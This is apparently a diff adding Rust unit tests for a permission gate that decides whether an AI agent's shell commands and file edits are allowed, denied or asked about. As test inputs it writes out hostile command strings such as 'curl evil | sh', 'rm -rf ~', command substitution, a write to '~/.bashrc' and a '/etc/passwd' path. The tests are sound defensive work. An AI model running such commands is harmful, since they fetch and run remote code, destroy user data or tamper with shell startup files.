@@ -0,0 +1,455 @@
+#[cfg(test)]
+mod tests {
+    use crate::models::permission::{PermissionDecision, PermissionPolicy, PermissionRule};
+    use crate::models::protocol::{PermissionTarget, ProtocolEvent, ToolKind};
+    use crate::services::event_sink::{EventSink, RecordingEventSink, SharedEventSink};
+    use crate::services::permission_policy_service::{
+        command_matches, escape_glob, path_matches, project_relative, session_rules,
+        spells_out_metacharacters, split_commands, EffectivePolicy, PermissionGate, SessionAllowances,
+    };
+    use crate::services::session_manager::PermissionResponse;
+    use std::path::Path;
+    use std::sync::Arc;
+    use tokio::sync::mpsc::{unbounded_channel, UnboundedReceiver};
+
+    fn rule(decision: PermissionDecision) -> PermissionRule {
+        PermissionRule {
+            decision,
+            ..PermissionRule::default()
+        }
+    }
+
+    fn execute(command: &str) -> PermissionTarget {
+        PermissionTarget {
+            tool_kind: ToolKind::Execute,
+            command: Some(command.into()),
+            paths: Vec::new(),
+        }
+    }
+
+    fn edit(paths: &[&str]) -> PermissionTarget {
+        PermissionTarget {
+            tool_kind: ToolKind::Edit,
+            command: None,
+            paths: paths.iter().map(|p| p.to_string()).collect(),
+        }
+    }
+
+    fn request(request_id: &str, target: PermissionTarget) -> ProtocolEvent {
+        ProtocolEvent::PermissionRequest {
+            session_id: "s1".into(),
+            request_id: request_id.into(),
+            tool_name: "tool".into(),
+            description: "tool".into(),
+            target: Some(target),
+            tool_id: None,
+        }
+    }
+
+    fn gate(
+        policy: EffectivePolicy,
+    ) -> (
+        Arc<PermissionGate>,
+        Arc<RecordingEventSink>,
+        UnboundedReceiver<PermissionResponse>,
+    ) {
+        let recorder = Arc::new(RecordingEventSink::new());
+        let sink: SharedEventSink = recorder.clone();
+        let (tx, rx) = unbounded_channel();
+        let allowances = SessionAllowances::default();
+        let gate = PermissionGate::new(sink, "s1", policy, Some("/work/app"), allowances, tx);
+        (Arc::new(gate), recorder, rx)
+    }
+
+    #[test]
+    fn command_globs_match_the_whole_command_line() {
+        assert!(command_matches("git status*", "git status --short"));
+        assert!(command_matches("rm -rf *", "rm -rf /"));
+        assert!(command_matches("npm test", " npm test "));
+        assert!(!command_matches("npm test", "npm test && curl evil"));
+        assert!(!command_matches("git *", "sudo git push"));
+    }
+
+    #[test]
+    fn allow_wildcards_do_not_cover_chained_commands() {
+        assert!(spells_out_metacharacters(
+            "git log | head*",
+            "git log | head -5"
+        ));
+        assert!(!spells_out_metacharacters(
+            "git status*",
+            "git status; rm -rf ~"
+        ));
+        assert!(!spells_out_metacharacters("echo *", "echo $(whoami)"));
+        assert!(!spells_out_metacharacters(
+            "git log | head*",
+            "git log | head | sh"
+        ));
+
+        let allow = PermissionRule {
+            command: Some("git status*".into()),
+            ..rule(PermissionDecision::Allow)
+        };
+        let chained = execute("git status && curl evil | sh");
+        assert!(allow.matches("Bash", Some(&execute("git status -s")), None));
+        assert!(!allow.matches("Bash", Some(&chained), None));
+
+        // Deny rules still cover whatever their wildcard matches.
+        let deny = PermissionRule {
+            command: Some("rm *".into()),
+            ..rule(PermissionDecision::Deny)
+        };
+        assert!(deny.matches("Bash", Some(&execute("rm a; ls")), None));
+    }
+
+    #[test]
+    fn command_lines_split_into_the_commands_they_run() {
+        assert_eq!(
+            split_commands("ls && rm -rf ~ || echo $(whoami) | sh; `id` &\ndate"),
+            vec!["ls", "rm -rf ~", "echo", "whoami", "sh", "id", "date"]
+        );
+        assert_eq!(split_commands("npm test"), vec!["npm test"]);
+        assert!(split_commands(" ; ").is_empty());
+    }
+
+    #[test]
+    fn chaining_does_not_slip_past_deny_or_ask() {
+        let deny = PermissionRule {
+            command: Some("rm *".into()),
+            ..rule(PermissionDecision::Deny)
+        };
+        assert!(deny.matches("Bash", Some(&execute("ls && rm -rf ~")), None));
+        assert!(deny.matches("Bash", Some(&execute("echo x; rm -rf .")), None));
+        assert!(deny.matches("Bash", Some(&execute("echo `rm -rf .`")), None));
+        assert!(!deny.matches("Bash", Some(&execute("ls -la")), None));
+
+        let ask = PermissionRule {
+            command: Some("git push*".into()),
+            ..rule(PermissionDecision::Ask)
+        };
+        assert!(ask.matches("Bash", Some(&execute("git add . && git push --force")), None));
+
+        // Allowing needs every chained command covered.
+        let allow = PermissionRule {
+            command: Some("npm *".into()),
+            ..rule(PermissionDecision::Allow)
+        };
+        assert!(allow.matches("Bash", Some(&execute("npm ci && npm test")), None));
+        assert!(!allow.matches("Bash", Some(&execute("npm ci && curl evil")), None));
+        assert!(!allow.matches("Bash", Some(&execute("npm test > ~/.bashrc")), None));
+        assert!(!allow.matches("Bash", Some(&execute(";")), None));
+    }
+
+    #[test]
+    fn path_globs_keep_single_stars_within_a_directory() {
+        assert!(path_matches("src/*.rs", "src/lib.rs"));
+        assert!(!path_matches("src/*.rs", "src/models/mod.rs"));
+        assert!(path_matches("src/**/*.rs", "src/lib.rs"));
+        assert!(path_matches("src/**/*.rs", "src/models/mod.rs"));
+        assert!(path_matches("**", "anything/at/all"));
+        assert!(path_matches("./docs/?.md", "docs/a.md"));
+    }
+
+    #[test]
+    fn paths_are_made_relative_to_the_project() {
+        let root = Path::new("/work/app");
+        assert_eq!(
+            project_relative("/work/app/src/lib.rs", Some(root)).as_deref(),
+            Some("src/lib.rs")
+        );
+        assert_eq!(
+            project_relative("src/./a/../b.rs", Some(root)).as_deref(),
+            Some("src/b.rs")
+        );
+        assert_eq!(project_relative("/etc/passwd", Some(root)), None);
+        assert_eq!(project_relative("../other/file", Some(root)), None);
+    }
+
+    #[test]
+    fn rule_criteria_must_all_match() {
+        let root = Some(Path::new("/work/app"));
+        let in_src = PermissionRule {
+            tool_kind: Some(ToolKind::Edit),
+            path: Some("src/**".into()),
+            ..rule(PermissionDecision::Allow)
+        };
+        assert!(in_src.matches("Edit", Some(&edit(&["/work/app/src/a.rs"])), root));
+        assert!(!in_src.matches(
+            "Edit",
+            Some(&edit(&["/work/app/src/a.rs", "/work/app/.env"])),
+            root
+        ));
+        assert!(!in_src.matches("Edit", Some(&edit(&[])), root));
+        assert!(!in_src.matches("Bash", Some(&execute("ls")), root));
+        assert!(!in_src.matches("Edit", None, root));
+
+        let by_name = PermissionRule {
+            tool_name: Some("write_file".into()),
+            ..rule(PermissionDecision::Deny)
+        };
+        assert!(by_name.matches("Write_File", None, root));
+    }
+
+    #[test]
+    fn one_denied_path_denies_the_whole_request() {
+        let policy = EffectivePolicy::new(
+            &PermissionPolicy {
+                rules: vec![
+                    PermissionRule {
+                        path: Some(".env".into()),
+                        ..rule(PermissionDecision::Deny)
+                    },
+                    PermissionRule {
+                        tool_kind: Some(ToolKind::Edit),
+                        ..rule(PermissionDecision::Allow)
+                    },
+                ],
+                default_decision: None,
+            },
+            None,
+        );
+        let root = Some(Path::new("/work/app"));
+        let both = edit(&["/work/app/src/a.rs", "/work/app/.env"]);
+        assert_eq!(
+            policy.decide("Edit", Some(&both), root, &[]).0,
+            PermissionDecision::Deny
+        );
+        assert_eq!(
+            policy
+                .decide("Edit", Some(&edit(&["/work/app/src/a.rs"])), root, &[])
+                .0,
+            PermissionDecision::Allow
+        );
+    }
+
+    #[test]
+    fn deny_rules_win_and_project_rules_come_first() {
+        let global = PermissionPolicy {
+            rules: vec![
+                PermissionRule {
+                    tool_kind: Some(ToolKind::Execute),
+                    ..rule(PermissionDecision::Allow)
+                },
+                PermissionRule {
+                    command: Some("rm *".into()),
+                    ..rule(PermissionDecision::Deny)
+                },
+            ],
+            default_decision: Some(PermissionDecision::Deny),
+        };
+        let project = PermissionPolicy {
+            rules: vec![PermissionRule {
+                command: Some("cargo *".into()),
+                ..rule(PermissionDecision::Ask)
+            }],
+            default_decision: Some(PermissionDecision::Ask),
+        };
+        let policy = EffectivePolicy::new(&global, Some(&project));
+
+        let (decision, reason) = policy.decide("Bash", Some(&execute("rm -rf target")), None, &[]);
+        assert_eq!(decision, PermissionDecision::Deny);
+        assert_eq!(reason, "rule: deny \"rm *\"");
+        assert_eq!(
+            policy
+                .decide("Bash", Some(&execute("cargo test")), None, &[])
+                .0,
+            PermissionDecision::Ask
+        );
+        assert_eq!(
+            policy.decide("Bash", Some(&execute("ls")), None, &[]).0,
+            PermissionDecision::Allow
+        );
+        assert_eq!(
+            policy.decide("Read", Some(&edit(&["a.rs"])), None, &[]),
+            (PermissionDecision::Ask, "default".to_string())
+        );
+        assert_eq!(
+            EffectivePolicy::new(&global, None)
+                .decide("Read", None, None, &[])
+                .0,
+            PermissionDecision::Deny
+        );
+    }
+
+    #[test]
+    fn session_allowances_come_after_deny_rules() {
+        let policy = EffectivePolicy::new(
+            &PermissionPolicy {
+                rules: vec![PermissionRule {
+                    command: Some("git push*".into()),
+                    ..rule(PermissionDecision::Deny)
+                }],
+                default_decision: None,
+            },
+            None,
+        );
+        let allowed = vec![PermissionRule {
+            tool_kind: Some(ToolKind::Execute),
+            ..rule(PermissionDecision::Allow)
+        }];
+        assert_eq!(
+            policy
+                .decide("Bash", Some(&execute("git push")), None, &allowed)
+                .0,
+            PermissionDecision::Deny
+        );
+        assert_eq!(
+            policy.decide("Bash", Some(&execute("git status")), None, &allowed),
+            (
+                PermissionDecision::Allow,
+                "allowed for this session".to_string()
+            )
+        );
+    }
+
+    #[test]
+    fn remembered_requests_only_cover_the_same_command_and_paths() {
+        let root = Some(Path::new("/work/app"));
+        let policy = EffectivePolicy::default();
+        let ask = |target: PermissionTarget, allowed: &[PermissionRule]| {
+            policy.decide("tool", Some(&target), root, allowed).0
+        };
+
+        assert!(command_matches(&escape_glob("rm *.log"), "rm *.log"));
+        let rm_logs = session_rules("tool", Some(&execute("rm *.log")), root);
+        assert_eq!(
+            ask(execute("rm *.log"), &rm_logs),
+            PermissionDecision::Allow
+        );
+        assert_eq!(
+            ask(execute("rm main.rs"), &rm_logs),
+            PermissionDecision::Ask
+        );
+
+        let edits = session_rules(
+            "tool",
+            Some(&edit(&[
+                "/work/app/src/a.rs",
+                "/work/app/b[1].md",
+                "/etc/hosts",
+            ])),
+            root,
+        );
+        assert_eq!(edits.len(), 2);
+        assert_eq!(
+            ask(edit(&["/work/app/b[1].md", "src/a.rs"]), &edits),
+            PermissionDecision::Allow
+        );
+        assert_eq!(
+            ask(edit(&["/work/app/src/b.rs"]), &edits),
+            PermissionDecision::Ask
+        );
+        assert_eq!(
+            ask(edit(&["/work/app/src/a.rs", "/etc/hosts"]), &edits),
+            PermissionDecision::Ask
+        );
+    }
+
+    #[test]
+    fn gate_answers_requests_a_rule_decides() {
+        let policy = EffectivePolicy::new(
+            &PermissionPolicy {
+                rules: vec![PermissionRule {
+                    tool_kind: Some(ToolKind::Edit),
+                    path: Some("src/**".into()),
+                    ..rule(PermissionDecision::Allow)
+                }],
+                default_decision: None,
+            },
+            None,
+        );
+        let (gate, recorder, mut rx) = gate(policy);
+
+        gate.emit_event(request("r1", edit(&["/work/app/src/main.rs"])));
+
+        let response = rx.try_recv().unwrap();
+        assert_eq!(response.request_id, "r1");
+        assert!(response.approved);
+        assert!(matches!(
+            &recorder.protocol_events()[..],
+            [ProtocolEvent::PermissionResolved { approved: true, automatic: true, reason, .. }]
+                if reason == "rule: allow edit in src/**"
+        ));
+    }
+
+    #[test]
+    fn gate_passes_undecided_requests_and_remembers_session_answers() {
+        let (gate, recorder, mut rx) = gate(EffectivePolicy::default());
+
+        gate.emit_event(request("r1", execute("npm test")));
+        assert!(rx.try_recv().is_err());
+        assert!(matches!(
+            &recorder.protocol_events()[..],
+            [ProtocolEvent::PermissionRequest { request_id, .. }] if request_id == "r1"
+        ));
+
+        gate.answer("r1".into(), true, true).unwrap();
+        assert!(rx.try_recv().unwrap().approved);
+
+        // The same command is now allowed without asking; another is not.
+        gate.emit_event(request("r2", execute("npm test")));
+        let response = rx.try_recv().unwrap();
+        assert_eq!(response.request_id, "r2");
+        gate.emit_event(request("r3", execute("npm publish")));
+        assert!(rx.try_recv().is_err());
+
+        let resolved: Vec<String> = recorder
+            .protocol_events()
+            .into_iter()
+            .filter_map(|e| match e {
+                ProtocolEvent::PermissionResolved {
+                    request_id,
+                    reason,
+                    automatic,
+                    ..
+                } => Some(format!("{}: {} ({})", request_id, reason, automatic)),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(
+            resolved,
+            vec![
+                "r1: allowed for this session (false)",
+                "r2: allowed for this session (true)"
+            ]
+        );
+    }
+
+    #[test]
+    fn requests_without_a_command_or_path_are_not_remembered() {
+        let (gate, _recorder, mut rx) = gate(EffectivePolicy::default());
+        let untargeted = |request_id: &str| ProtocolEvent::PermissionRequest {
+            session_id: "s1".into(),
+            request_id: request_id.into(),
+            tool_name: "Bash".into(),
+            description: "run something".into(),
+            target: None,
+            tool_id: None,
+        };
+
+        assert!(session_rules("Bash", None, None).is_empty());
+        gate.emit_event(untargeted("r1"));
+        gate.answer("r1".into(), true, true).unwrap();
+        assert!(rx.try_recv().unwrap().approved);
+
+        // Still asked: the first answer allowed that one request only.
+        gate.emit_event(untargeted("r2"));
+        assert!(rx.try_recv().is_err());
+
+        // An id the gate never saw is not answered at all.
+        assert!(gate.answer("unknown".into(), true, true).is_err());
+        assert!(rx.try_recv().is_err());
+    }
+
+    #[test]
+    fn gate_forwards_other_events_untouched() {
+        let (gate, recorder, _rx) = gate(EffectivePolicy::default());
+        let message = ProtocolEvent::Message {
+            session_id: "s1".into(),
+            role: "assistant".into(),
+            content: "hi".into(),
+        };
+        gate.emit_event(message.clone());
+        assert_eq!(recorder.protocol_events(), vec![message]);
+    }
+}